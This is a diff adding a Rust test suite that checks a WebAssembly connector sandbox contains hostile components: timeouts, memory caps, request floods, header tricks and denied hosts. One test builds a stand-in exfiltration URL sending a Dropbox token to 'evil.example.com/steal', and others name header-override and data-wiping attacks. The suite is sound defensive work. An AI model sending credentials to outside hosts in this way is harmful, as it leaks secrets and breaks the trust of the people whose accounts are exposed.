@@ -1,0 +1,454 @@
+//! The hostile-component suite: one attack per test, each run through the
+//! real host. For every attack we check that the host's error names the
+//! violation, that no secret reached the component or a foreign host, and
+//! that the same process then runs the real Dropbox component correctly.
+//!
+//! The attacks live in `tests/hostile/attacker` (chosen by the `attack`
+//! fetch option) and `tests/hostile/imports`.
+
+use std::path::{Path, PathBuf};
+use std::sync::atomic::Ordering;
+use std::time::{Duration, Instant};
+
+use connector_fakes::{DropboxConfig, FakeDropbox, Team};
+use oomnitza_connect::bindings::{ConnectorError, FetchRequest, Page, RecordKind, Value};
+use oomnitza_connect::config::Config;
+use oomnitza_connect::instance::ConnectorInstance;
+use oomnitza_connect::integration::Integration;
+use oomnitza_connect::sync::{self, SyncOptions};
+
+use crate::support::{DROPBOX_TOKEN, OOMNITZA_TOKEN, World};
+
+fn wasm(name: &str) -> PathBuf {
+    let p = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../target/wasm32-wasip2/release")
+        .join(format!("{name}.wasm"));
+    assert!(
+        p.is_file(),
+        "{} is missing: run `scripts/dev test`",
+        p.display()
+    );
+    p
+}
+
+/// The attacker, configured as if it were the Dropbox connector: its
+/// declared origin is routed to the fake Dropbox and carries the token.
+struct Arena {
+    world: World,
+    /// A server the attacker would love to reach.
+    evil: FakeDropbox,
+    integration: Integration,
+}
+
+async fn arena(limits: &str) -> Arena {
+    let mut world = World::new(20);
+    world.edit(
+        &crate::support::component().display().to_string(),
+        &wasm("hostile_attacker").display().to_string(),
+    );
+    world.append(limits);
+    let evil = FakeDropbox::start(DropboxConfig::new(Team::generate(1, 1), "evil")).expect("evil");
+    let config = Config::load(&world.write_config()).expect("config");
+    let integration = Integration::prepare(config).await.expect("attacker loads");
+    Arena {
+        world,
+        evil,
+        integration,
+    }
+}
+
+fn attack(name: &str, target: Option<&str>) -> FetchRequest {
+    let mut options = vec![("attack".to_string(), Value::Text(name.into()))];
+    if let Some(t) = target {
+        options.push(("target".into(), Value::Text(t.into())));
+    }
+    FetchRequest {
+        kind: RecordKind::Users,
+        cursor: None,
+        page_size: 1000,
+        options,
+        sync_time: "2026-11-27T00:00:00Z".into(),
+    }
+}
+
+impl Arena {
+    async fn instance(&self) -> ConnectorInstance {
+        self.integration.instance().await.expect("instance")
+    }
+
+    async fn run(
+        &self,
+        name: &str,
+        target: Option<&str>,
+    ) -> anyhow::Result<Result<Page, ConnectorError>> {
+        self.instance().await.fetch(&attack(name, target)).await
+    }
+
+    fn refusal(&self) -> String {
+        self.integration
+            .policy
+            .stats
+            .last_refusal()
+            .unwrap_or_default()
+    }
+
+    /// No secret reached a foreign host, and the real connector still
+    /// works in this process.
+    async fn aftermath(self) {
+        let reached: Vec<String> = self
+            .evil
+            .requests()
+            .iter()
+            .map(|r| format!("{} {}", r.method, r.path))
+            .collect();
+        assert!(
+            reached.is_empty(),
+            "the foreign host was reached: {reached:?}"
+        );
+        let world = World::new(1200);
+        let config = Config::load(&world.write_config()).expect("config");
+        let integration = Integration::prepare(config)
+            .await
+            .expect("real connector loads");
+        let report = sync::run(&integration, &SyncOptions::default())
+            .await
+            .expect("sync runs");
+        assert!(report.succeeded(), "{:?}", report.error);
+        assert_eq!(world.oomnitza.user_count(), 1200);
+        drop(self.world);
+    }
+}
+
+fn no_secrets_in(text: &str) {
+    for s in [DROPBOX_TOKEN, OOMNITZA_TOKEN] {
+        assert!(!text.contains(s), "a secret reached the component: {text}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_infinite_loop_hits_the_call_deadline() {
+    let a = arena("\n[limits]\ncall_timeout_secs = 2\n").await;
+    let started = Instant::now();
+    let err = a.run("infinite-loop", None).await.expect_err("stopped");
+    assert!(
+        format!("{err:#}").contains("exceeded the call deadline of 2s"),
+        "{err:#}"
+    );
+    assert!(started.elapsed() < Duration::from_secs(5));
+    a.aftermath().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn unbounded_memory_growth_hits_the_memory_cap() {
+    let a = arena("\n[limits]\nmax_memory_mib = 64\n").await;
+    let err = a.run("memory-growth", None).await.expect_err("stopped");
+    assert!(
+        format!("{err:#}").contains("over the limit of 64 MiB (limits.max_memory_mib)"),
+        "{err:#}"
+    );
+    a.aftermath().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_request_to_a_host_not_allowed_is_denied() {
+    let a = arena("").await;
+    let target = format!("https://evil.example.com/steal?token={DROPBOX_TOKEN}");
+    let out = a
+        .run("request-other-host", Some(&target))
+        .await
+        .expect("call returns");
+    assert!(matches!(out, Err(ConnectorError::Denied(_))), "{out:?}");
+    let why = a.refusal();
+    assert!(
+        why.contains("https://evil.example.com/steal?[redacted]"),
+        "{why}"
+    );
+    assert!(why.contains("not in the allowlist"), "{why}");
+    no_secrets_in(&why);
+    a.aftermath().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_ip_literal_is_denied() {
+    let a = arena("").await;
+    let target = format!("{}/2/team/members/list_v2", a.evil.url());
+    let out = a
+        .run("request-ip-literal", Some(&target))
+        .await
+        .expect("call returns");
+    assert!(matches!(out, Err(ConnectorError::Denied(_))), "{out:?}");
+    assert!(
+        a.refusal().contains("not in the allowlist"),
+        "{}",
+        a.refusal()
+    );
+    a.aftermath().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_name_resolving_to_loopback_is_denied_without_opt_in() {
+    // The declared origin is served by a name that resolves to loopback,
+    // and this operator has not allowed loopback.
+    let mut world = World::new(5);
+    let port = world.dropbox.addr().port();
+    world
+        .edit(
+            &format!("url = \"{}\"", world.dropbox.url()),
+            &format!("url = \"http://localhost:{port}\""),
+        )
+        .edit("allow_loopback = true", "allow_loopback = false");
+    let integration = Integration::prepare(Config::load(&world.write_config()).expect("config"))
+        .await
+        .expect("loads");
+    let mut inst = integration.instance().await.expect("instance");
+    let out = inst
+        .fetch(&FetchRequest {
+            options: vec![],
+            ..attack("none", None)
+        })
+        .await
+        .expect("call returns");
+    assert!(matches!(out, Err(ConnectorError::Denied(_))), "{out:?}");
+    let why = integration.policy.stats.last_refusal().unwrap_or_default();
+    assert!(why.contains("localhost resolves to"), "{why:?} {out:?}");
+    assert!(
+        why.contains("a loopback address (sandbox.allow_loopback is off)"),
+        "{why}"
+    );
+    assert_eq!(world.dropbox.stats().requests, 0);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_authorization_override_aimed_at_an_attacker_is_contained() {
+    let a = arena("").await;
+    let target = format!("{}/collect", a.evil.url());
+    let out = a
+        .run("authorization-override", Some(&target))
+        .await
+        .expect("call returns");
+    let page = out.expect("the attacker reports what happened");
+    let note = format!("{:?}", page.records);
+    for h in [
+        "authorization",
+        "authorization2",
+        "cookie",
+        "proxy-authorization",
+    ] {
+        assert!(
+            note.to_lowercase().contains(h),
+            "{h} refusal not reported: {note}"
+        );
+    }
+    assert!(note.contains("Forbidden"), "{note}");
+    assert!(note.contains("HttpRequestDenied"), "{note}");
+    no_secrets_in(&note);
+    a.aftermath().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_host_header_trick_is_contained() {
+    let a = arena("").await;
+    let target = format!("{}/", a.evil.url());
+    let page = a
+        .run("host-header", Some(&target))
+        .await
+        .expect("call returns")
+        .expect("report");
+    let note = format!("{:?}", page.records);
+    assert!(
+        note.contains("Forbidden"),
+        "the Host header is refused: {note}"
+    );
+    assert!(
+        note.contains("HttpRequestDenied"),
+        "evil authority refused: {note}"
+    );
+    // Whatever reached Dropbox went to its real authority, never with the
+    // guest's Host header.
+    for r in a.world.dropbox.requests() {
+        assert!(
+            !r.header("host").unwrap_or_default().contains("evil"),
+            "{r:?}"
+        );
+    }
+    no_secrets_in(&note);
+    a.aftermath().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_huge_request_body_hits_the_body_cap() {
+    let a = arena("").await;
+    let err = a.run("huge-request-body", None).await.expect_err("stopped");
+    assert!(
+        format!("{err:#}").contains("over the cap of 1024 KiB (limits.max_request_body_kib)"),
+        "{err:#}"
+    );
+    assert_eq!(
+        a.world.dropbox.stats().requests,
+        0,
+        "the body never left the host"
+    );
+    a.aftermath().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_request_flood_hits_the_request_caps() {
+    let a = arena("").await;
+    let err = a.run("request-flood", None).await.expect_err("stopped");
+    let msg = format!("{err:#}");
+    assert!(
+        msg.contains("limits.max_concurrent_requests")
+            || msg.contains("limits.max_requests_per_call"),
+        "{msg}"
+    );
+    assert!(
+        a.world.dropbox.stats().requests <= 100,
+        "the flood was cut short"
+    );
+    a.aftermath().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_sequential_flood_hits_the_per_call_cap() {
+    let a = arena("\n[limits]\nmax_concurrent_requests = 64\nmax_requests_per_call = 70\n").await;
+    let err = a.run("request-flood", None).await.expect_err("stopped");
+    assert!(
+        format!("{err:#}")
+            .contains("more than 70 requests in one call (limits.max_requests_per_call)"),
+        "{err:#}"
+    );
+    assert!(a.world.dropbox.stats().requests <= 70);
+    a.aftermath().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_giant_return_value_is_bounded_by_the_memory_cap() {
+    let a = arena("\n[limits]\nmax_memory_mib = 128\n").await;
+    let err = a.run("giant-return", None).await.expect_err("stopped");
+    let msg = format!("{err:#}");
+    assert!(
+        msg.contains("limits.max_memory_mib") || msg.contains("failed"),
+        "{msg}"
+    );
+    a.aftermath().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_panic_and_a_trap_poison_only_their_instance() {
+    let a = arena("").await;
+    let mut inst = a.instance().await;
+    let err = inst
+        .fetch(&attack("trap", None))
+        .await
+        .expect_err("trapped");
+    assert!(
+        format!("{err:#}").contains("connector `fetch` failed"),
+        "{err:#}"
+    );
+    let again = inst
+        .fetch(&attack("none", None))
+        .await
+        .expect_err("poisoned");
+    assert!(again.to_string().contains("unusable"), "{again}");
+    let err = a.run("unreachable", None).await.expect_err("trapped");
+    assert!(format!("{err:#}").contains("unreachable"), "{err:#}");
+    // A fresh instance of the same component works.
+    let ok = a.run("none", None).await.expect("call returns");
+    assert!(ok.is_ok(), "{ok:?}");
+    a.aftermath().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn malformed_records_are_refused() {
+    let a = arena("").await;
+    let err = a.run("malformed-records", None).await.expect_err("refused");
+    assert!(format!("{err:#}").contains("malformed record"), "{err:#}");
+    a.aftermath().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_component_sees_no_environment_files_or_credentials() {
+    let a = arena("").await;
+    let page = a
+        .run("echo", None)
+        .await
+        .expect("call returns")
+        .expect("echo page");
+    let everything = format!("{:?}", page.records);
+    no_secrets_in(&everything);
+    assert!(
+        everything.contains("0 variables"),
+        "environment is empty: {everything}"
+    );
+    assert!(
+        !everything.contains("HOME") && !everything.contains("PATH="),
+        "{everything}"
+    );
+    assert!(
+        everything.contains("resp-body"),
+        "the echo made its request: {everything}"
+    );
+    // The vendor saw the credential; the component did not.
+    let seen = a.world.dropbox.requests();
+    assert!(
+        seen.iter()
+            .any(|r| r.authorization.as_deref() == Some(&format!("Bearer {DROPBOX_TOKEN}")))
+    );
+    a.aftermath().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn filesystem_and_socket_imports_are_refused_at_load() {
+    let mut world = World::new(1);
+    world.edit(
+        &crate::support::component().display().to_string(),
+        &wasm("hostile_imports").display().to_string(),
+    );
+    let err = Integration::prepare(Config::load(&world.write_config()).expect("config"))
+        .await
+        .err()
+        .expect("refused");
+    let msg = format!("{err:#}");
+    for import in [
+        "wasi:sockets/tcp",
+        "wasi:sockets/ip-name-lookup",
+        "wasi:filesystem/preopens",
+    ] {
+        assert!(msg.contains(import), "{import} not named: {msg}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_undeclared_action_is_refused_before_the_call() {
+    let a = arena("").await;
+    let mut inst = a.instance().await;
+    let err = inst
+        .action("wipe-everything", &[], &[])
+        .await
+        .expect_err("refused");
+    assert!(
+        err.to_string()
+            .contains("`wipe-everything` is not declared"),
+        "{err}"
+    );
+    let ok = inst
+        .action("declared-action", &[], &[])
+        .await
+        .expect("declared runs");
+    assert!(ok.is_ok());
+    a.aftermath().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_stderr_flood_goes_nowhere() {
+    let a = arena("\n[limits]\ncall_timeout_secs = 30\n").await;
+    let page = a
+        .run("stderr-flood", None)
+        .await
+        .expect("call returns")
+        .expect("page");
+    assert!(page.records.is_empty());
+    let stats = &a.integration.policy.stats;
+    assert_eq!(stats.denied.load(Ordering::Relaxed), 0);
+    a.aftermath().await;
+}
